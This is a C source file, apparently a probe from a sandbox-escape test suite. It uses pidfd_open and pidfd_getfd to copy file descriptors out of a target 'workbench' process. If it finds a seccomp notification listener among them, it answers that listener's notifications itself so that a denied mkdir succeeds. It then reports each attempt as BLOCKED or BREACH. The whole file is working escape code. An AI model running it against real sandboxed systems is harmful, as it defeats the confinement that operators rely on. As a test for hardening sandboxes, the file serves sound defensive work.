/*
 * getfd: copy the workbench's file descriptors (and those of every other
 * process find_targets lists) with pidfd_getfd, fds 0..64 and whatever
 * /proc/PID/fd shows. Any fd obtained is an escape; a seccomp notification
 * listener is the worst one: with it the target answers its own
 * notifications, so in watch mode the call the profile denies runs. This
 * program then does exactly that with mkdir(MKDIR).
 *
 *   getfd WORKBENCH CEILING MKDIR
 *
 * Exit status: 0 when every attempt was blocked, 1 when any succeeded.
 */
#include "escape.h"
#include <linux/seccomp.h>
#include <poll.h>
#include <pthread.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <time.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

static int breaches;

/* is_listener: the id-valid check answers ENOENT for an unknown id on a
 * listener, something else (ENOTTY, EINVAL) on any other file. */
static int is_listener(int fd) {
	__u64 id = 0;
	if (ioctl(fd, SECCOMP_IOCTL_NOTIF_ID_VALID, &id) < 0 && errno == ENOENT)
		return 1;
	char path[64], link[256];
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	ssize_t n = readlink(path, link, sizeof link - 1);
	if (n > 0) {
		link[n] = 0;
		return strstr(link, "seccomp notify") != NULL;
	}
	return 0;
}

struct thief {
	const char *path;
	volatile int done;
	long ret;
	int err;
};

static void *mkdir_loop(void *p) {
	struct thief *t = p;
	for (int i = 0; i < 300; i++) {
		t->ret = syscall(SYS_mkdir, t->path, 0755);
		t->err = errno;
		if (t->ret == 0 || t->err == EEXIST)
			break;
		usleep(5000);
	}
	t->done = 1;
	return NULL;
}

/* steal answers the notifications that reach the stolen listener with
 * "continue" while a second thread keeps calling mkdir. */
static void steal(int pid, const char *why, int fd, const char *path) {
	struct thief t = {.path = path};
	pthread_t th;
	pthread_create(&th, NULL, mkdir_loop, &t);
	int answered = 0;
	struct timespec start, now;
	clock_gettime(CLOCK_MONOTONIC, &start);
	while (!t.done) {
		clock_gettime(CLOCK_MONOTONIC, &now);
		if (now.tv_sec - start.tv_sec > 3)
			break;
		answered += answer_one(fd);
	}
	pthread_join(th, NULL);
	printf("RESULT listener-theft pid=%d (%s): BREACH answered %d notifications; mkdir(%s) = %ld%s%s\n",
	       pid, why, answered, path, t.ret, t.ret < 0 ? " " : "", t.ret < 0 ? errname(t.err) : "");
}

static void attack(int pid, const char *why, const char *path) {
	int pidfd = syscall(SYS_pidfd_open, pid, 0);
	if (pidfd < 0) {
		printf("RESULT getfd pid=%d (%s): BLOCKED pidfd_open=%s\n", pid, why, errname(errno));
		return;
	}
	int want[256], n = 0;
	for (int fd = 0; fd <= 64; fd++)
		want[n++] = fd;
	char dir[64];
	snprintf(dir, sizeof dir, "/proc/%d/fd", pid);
	DIR *d = opendir(dir);
	struct dirent *e;
	while (d && (e = readdir(d)) && n < 256) {
		char *end;
		long fd = strtol(e->d_name, &end, 10);
		if (!*end && fd > 64)
			want[n++] = fd;
	}
	if (d)
		closedir(d);
	int got = 0, listener = -1, listener_at = -1, first_err = 0;
	for (int i = 0; i < n; i++) {
		int fd = syscall(SYS_pidfd_getfd, pidfd, want[i], 0);
		if (fd < 0) {
			if (errno != EBADF && !first_err)
				first_err = errno;
			continue;
		}
		got++;
		if (listener < 0 && is_listener(fd))
			listener = fd, listener_at = want[i];
		else
			close(fd);
	}
	close(pidfd);
	if (!got) {
		printf("RESULT getfd pid=%d (%s): BLOCKED pidfd_getfd=%s\n", pid, why, errname(first_err ? first_err : EBADF));
		return;
	}
	breaches++;
	if (listener < 0) {
		printf("RESULT getfd pid=%d (%s): BREACH copied %d fds (no listener among them)\n", pid, why, got);
		return;
	}
	printf("RESULT getfd pid=%d (%s): BREACH copied %d fds; its fd %d is a seccomp listener\n", pid, why, got, listener_at);
	fflush(stdout);
	steal(pid, why, listener, path);
	close(listener);
}

int main(int argc, char **argv) {
	usage_if(argc != 4, "getfd WORKBENCH CEILING MKDIR");
	struct target t[MAX_TARGETS];
	int n = find_targets(argv[1], atoi(argv[2]), t);
	for (int i = 0; i < n; i++) {
		attack(t[i].pid, t[i].why, argv[3]);
		fflush(stdout);
	}
	return breaches ? 1 : 0;
}
